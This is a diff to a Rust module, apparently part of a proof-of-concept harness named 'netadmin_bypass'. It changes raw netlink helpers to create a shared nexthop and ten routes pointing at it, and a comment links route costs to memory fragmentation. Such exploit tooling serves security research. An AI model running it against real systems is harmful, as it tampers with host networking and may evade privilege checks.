@@ -10,12 +10,17 @@ use netadmin_bypass::attack::netlink::{
 };
 use netadmin_bypass::attack::{IFF_UP, index_of};
 
+const AF_INET: u8 = libc::AF_INET as u8;
 /// linux/rtnetlink.h.
 const RTM_GETLINK: u16 = 18;
 const RTM_NEWROUTE: u16 = 24;
 const RTM_GETROUTE: u16 = 26;
 const RTA_DST: u16 = 1;
-const RTA_OIF: u16 = 4;
+const RTA_NH_ID: u16 = 30;
+/// linux/nexthop.h.
+const RTM_NEWNEXTHOP: u16 = 104;
+const NHA_ID: u16 = 1;
+const NHA_OIF: u16 = 5;
 
 /// linux/netlink.h.
 const NLM_F_DUMP: u16 = 0x300;
@@ -25,6 +30,10 @@ const NLMSG_DONE: u32 = 3;
 
 /// How many routes a dump finds, besides the kernel's own.
 const ROUTES: u8 = 10;
+/// Where they lead. Routes with a device of their own instead cost as much more as the
+/// memory for each processor is fragmented (`fib_nh_common_init`, `pcpu_alloc`), which
+/// every program that comes and goes changes.
+const NEXT_HOP: u32 = 1;
 
 pub fn links() -> io::Result<Prepared> {
     exchange(&[Message::new(RTM_GETLINK, NLM_F_DUMP, &[0; 16])])
@@ -46,30 +55,37 @@ pub fn replace_route() -> io::Result<Prepared> {
 
 /// The same route so many times in one datagram; the last is acknowledged.
 pub fn replace_routes(number: usize) -> io::Result<Prepared> {
-    exchange(&vec![new_route(index_of(DEVICE)?, 1); number])
+    exchange(&vec![new_route(1); number])
 }
 
 pub fn add_routes(device: &str) -> io::Result<()> {
-    let index = index_of(device)?;
-    (1..=ROUTES).try_for_each(|number| transact(&[new_route(index, number)]))
+    // struct nhmsg: family, scope, protocol, and more.
+    let next_hop = Message::new(
+        RTM_NEWNEXTHOP,
+        NLM_F_CREATE,
+        &[AF_INET, 0, 0, 0, 0, 0, 0, 0],
+    )
+    .number(NHA_ID, NEXT_HOP)
+    .number(NHA_OIF, index_of(device)?);
+    transact(&[next_hop])?;
+    (1..=ROUTES).try_for_each(|number| transact(&[new_route(number)]))
 }
 
-fn new_route(device: u32, number: u8) -> Message {
+fn new_route(number: u8) -> Message {
     Message::new(RTM_NEWROUTE, NLM_F_CREATE | NLM_F_REPLACE, &route(24))
         .attribute(RTA_DST, &[10, 99, number, 0])
-        .number(RTA_OIF, device)
+        .number(RTA_NH_ID, NEXT_HOP)
 }
 
 /// `struct rtmsg`: family, prefix length, table, protocol, scope and type.
 fn route(prefix: u8) -> [u8; 12] {
-    let family = u8::try_from(libc::AF_INET).unwrap_or_default();
     let (table, protocol, scope, unicast) = (254, 4, 253, 1);
     let (table, protocol, scope, unicast) = match prefix {
         0 => (0, 0, 0, 0),
         _ => (table, protocol, scope, unicast),
     };
     [
-        family, prefix, 0, 0, table, protocol, scope, unicast, 0, 0, 0, 0,
+        AF_INET, prefix, 0, 0, table, protocol, scope, unicast, 0, 0, 0, 0,
     ]
 }
 
